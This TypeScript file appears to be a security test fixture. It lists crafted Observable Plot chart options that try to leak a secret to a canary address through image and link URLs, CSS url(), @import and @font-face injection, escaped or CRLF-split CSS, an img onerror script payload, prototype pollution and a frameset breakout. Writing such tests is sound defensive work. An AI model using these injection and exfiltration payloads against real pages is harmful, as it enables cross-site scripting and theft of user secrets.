import type { Addresses, Payload } from '../payload.ts';
import { act, asDocument, filled, pressed, writtenInPage, type HostileMarkup } from './shownMarkup.ts';

/** A chart's options as an author writes them; `address` is where the secret would go, `SECRET` in it filled. */
type Chart = {
	readonly id: string;
	readonly channel: string;
	readonly options: string;
	/** Of what `address` is. */
	readonly address?: (at: Addresses) => string;
	/** What a page that believed the options would show. */
	readonly shown: HostileMarkup['markup'];
	readonly rest?: Partial<Payload>;
};

const row = '[{ x: 1, y: 2, address }]';
const toCanary = ({ http }: Addresses) => `${http}x.svg?SECRET`;

const chartOf = ({ id, channel, options, address = toCanary, shown, rest = {} }: Chart): Payload => ({
	id,
	channel,
	realm: 'chart',
	cells: (at) => `\`\`\`ts\n((address) => ${options})(${filled(address(at))})\n\`\`\`\n`,
	control: writtenInPage(shown),
	...rest
});

const mark = (options: string, kind = 'dot') =>
	`Plot.plot({ marks: [Plot.${kind}(${row}, { x: 'x', y: 'y', r: 40, ${options} })] })`;

const square = (attributes: string, inside = '<rect width="99" height="99"/>') =>
	`<svg width="99" height="99" ${attributes}>${inside}</svg>`;
const image: HostileMarkup['markup'] = (at) =>
	square('', `<image href="${toCanary(at)}" width="9" height="9"/>`);
const link: HostileMarkup['markup'] = (at) =>
	square('', `<a href="${toCanary(at)}"><rect width="99" height="99"/></a>`);
const style: HostileMarkup['markup'] = (at) => square(`style="background: url(${toCanary(at)})"`);
const masked: HostileMarkup['markup'] = (at) =>
	`<p style="mask: url(${toCanary(at)}); width: 9px; height: 9px; background: red">x</p>`;
const acting: HostileMarkup['markup'] = (at) => `<img src=data:x onerror=${act(at)}>`;
const markup = { address: acting, shown: acting };

const press = pressed('circle, rect, svg, img');

/** What Plot is told to draw. */
export const chart: readonly Payload[] = [
	chartOf({
		id: 'plot-image',
		channel: 'Plot src',
		options: mark(`src: 'address', width: 20`, 'image'),
		shown: image
	}),
	chartOf({
		id: 'plot-image-accessor',
		channel: 'Plot src',
		options: mark(`src: () => address`, 'image'),
		shown: image
	}),
	chartOf({
		id: 'plot-image-constant',
		channel: 'Plot src',
		options: mark(`src: address`, 'image'),
		shown: image
	}),
	chartOf({
		id: 'plot-image-channel',
		channel: 'Plot src',
		options: mark(`src: { value: 'address' }`, 'image'),
		shown: image
	}),
	chartOf({
		id: 'plot-image-drawn',
		channel: 'Plot src',
		options: `Plot.plot({ x: { tickFormat: (x) => 'x' + x }, marks: [Plot.image(${row}, { x: 'x', y: 'y', src: 'address' })] })`,
		shown: image
	}),
	chartOf({
		id: 'plot-href',
		channel: 'Plot href',
		options: mark(`href: 'address'`),
		shown: link,
		rest: press
	}),
	chartOf({
		id: 'plot-href-blank',
		channel: 'Plot href',
		options: mark(`href: () => address, target: '_blank'`),
		shown: link,
		rest: press
	}),
	chartOf({
		id: 'plot-href-channels',
		channel: 'Plot href',
		options: mark(`channels: { href: { value: 'address' } }, tip: true`),
		shown: link,
		rest: press
	}),
	chartOf({
		id: 'plot-href-drawn',
		channel: 'Plot href',
		options: `Plot.plot({ x: { tickFormat: (x) => 'x' + x }, marks: [Plot.dot(${row}, { x: 'x', y: 'y', r: 40, href: 'address' })] })`,
		shown: link,
		rest: press
	}),
	chartOf({
		id: 'plot-style-text',
		channel: 'Plot style',
		options: `Plot.plot({ style: \`background: url(\${address})\`, marks: [Plot.frame()] })`,
		shown: style
	}),
	chartOf({
		id: 'plot-style-record',
		channel: 'Plot style',
		options: `Plot.plot({ style: { background: \`url(\${address})\` }, marks: [Plot.frame()] })`,
		shown: style
	}),
	chartOf({
		id: 'plot-style-comment',
		channel: 'Plot style',
		options: `Plot.plot({ style: { background: \`var(--plot-background, "/*") url(\${address})\` }, marks: [Plot.frame()] })`,
		shown: style
	}),
	chartOf({
		id: 'plot-style-escape',
		channel: 'Plot style',
		options: `Plot.plot({ style: { background: \`u\\\\72\\\\6c(\${address})\` }, marks: [Plot.frame()] })`,
		shown: style
	}),
	chartOf({
		id: 'plot-style-crlf',
		channel: 'Plot style',
		options: `Plot.plot({ style: { background: \`u\\\\72\\r\\nl(\${address})\` }, marks: [Plot.frame()] })`,
		shown: style
	}),
	chartOf({
		id: 'plot-style-import',
		channel: 'Plot style',
		options: `Plot.plot({ style: \`} @import '\${address}'; {\`, marks: [Plot.frame()] })`,
		shown: (at) => `<style>@import '${toCanary(at)}';</style>`
	}),
	chartOf({
		id: 'plot-class-name',
		channel: 'Plot className',
		options: `Plot.plot({ className: \`x{}*{background:url(\${address})}\`, marks: [Plot.frame()] })`,
		shown: (at) => `<style>.x{}*{background:url(${toCanary(at)})}</style>`
	}),
	chartOf({
		id: 'plot-fill',
		channel: 'Plot fill',
		options: mark(`fill: \`url(\${address}#a)\`, stroke: \`url(\${address}#b)\``),
		shown: masked
	}),
	chartOf({
		id: 'plot-fill-column',
		channel: 'Plot fill',
		options: `Plot.plot({ color: { type: 'identity' }, marks: [Plot.dot([{ x: 1, fill: \`url(\${address}#a)\` }], { x: 'x', fill: 'fill' })] })`,
		shown: masked
	}),
	chartOf({
		id: 'plot-range',
		channel: 'Plot scale',
		options: `Plot.plot({ color: { range: [\`url(\${address})\`, 'red'], legend: true }, marks: [Plot.dot(${row}, { x: 'x', fill: 'address' })] })`,
		shown: masked
	}),
	chartOf({
		id: 'plot-mask',
		channel: 'Plot mask',
		options: mark(`mask: \`url(\${address})\`, clip: \`url(\${address}#a)\``),
		shown: masked
	}),
	chartOf({
		id: 'plot-filter',
		channel: 'Plot imageFilter',
		options: mark(`imageFilter: \`url(\${address})\``),
		shown: masked
	}),
	chartOf({
		id: 'plot-font',
		channel: 'Plot font',
		options: mark(`text: 'address', fontFamily: \`x; src: url(\${address})\``, 'text'),
		shown: (at) =>
			`<style>@font-face { font-family: x; src: url(${toCanary(at)}) }</style><p style="font-family: x">x</p>`
	}),
	chartOf({
		id: 'plot-legend',
		channel: 'Plot legend',
		options: `Plot.legend({ style: { background: \`url(\${address})\` }, color: { type: 'ordinal', domain: [\`url(\${address})\`], range: [\`url(\${address})\`] } })`,
		shown: style
	}),
	chartOf({
		id: 'plot-text',
		channel: 'Plot text',
		options: mark(`text: 'address', title: 'address'`, 'text'),
		...markup
	}),
	chartOf({
		id: 'plot-aria',
		channel: 'Plot ariaLabel',
		options: mark(`ariaLabel: 'address', ariaDescription: address`),
		...markup
	}),
	chartOf({
		id: 'plot-titles',
		channel: 'Plot title',
		options: `Plot.plot({ title: address, subtitle: address, caption: address, x: { label: address }, marks: [Plot.dot(${row}, { x: 'x', tip: true, title: 'address' })] })`,
		...markup
	}),
	chartOf({
		id: 'plot-caption-markup',
		channel: 'Plot caption',
		options: `Plot.plot({ caption: html([address]), title: html([address]), marks: [Plot.dot(${row}, { x: 'x' })] })`,
		...markup
	}),
	chartOf({
		id: 'plot-marker',
		channel: 'Plot marker',
		options: `Plot.plot({ marks: [Plot.line([[1, 2], [2, 3]], { marker: (color, { document }) => { const image = document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', address); return image; } })] })`,
		shown: image
	}),
	chartOf({
		id: 'plot-render',
		channel: 'Plot render',
		options: `Plot.plot({ marks: [(index, scales, values, dimensions, context) => { const image = context.document.createElementNS('http://www.w3.org/2000/svg', 'image'); image.setAttribute('href', address); return image; }] })`,
		shown: image
	}),
	chartOf({
		id: 'plot-prototype',
		channel: 'Plot keys',
		options: `Plot.plot({ ...JSON.parse('{"__proto__":{"href":"x"},"constructor":{"prototype":{}}}'), document: { createElement: address }, marks: [Plot.dot(${row}, { x: 'x', href: 'address' })] })`,
		shown: link,
		rest: press
	}),
	chartOf({
		id: 'plot-geo',
		channel: 'Plot geo',
		options: `Plot.plot({ marks: [Plot.geo({ type: 'Feature', properties: { href: address }, geometry: { type: 'Point', coordinates: [1, 2] } }, { href: (feature) => feature.properties.href, title: (feature) => feature.properties.href })] })`,
		shown: link,
		rest: press
	}),
	{
		id: 'plot-frameset',
		channel: 'Plot text',
		realm: 'chart',
		cells: (at) =>
			`\`\`\`ts\nPlot.plot({ title: ${filled(`</h2></figure></svg><frameset><frame src="${toCanary(at)}">`)}, marks: [Plot.frame()] })\n\`\`\`\n`,
		control: asDocument((at) => `<frameset><frame src="${toCanary(at)}"></frameset>`)
	}
];
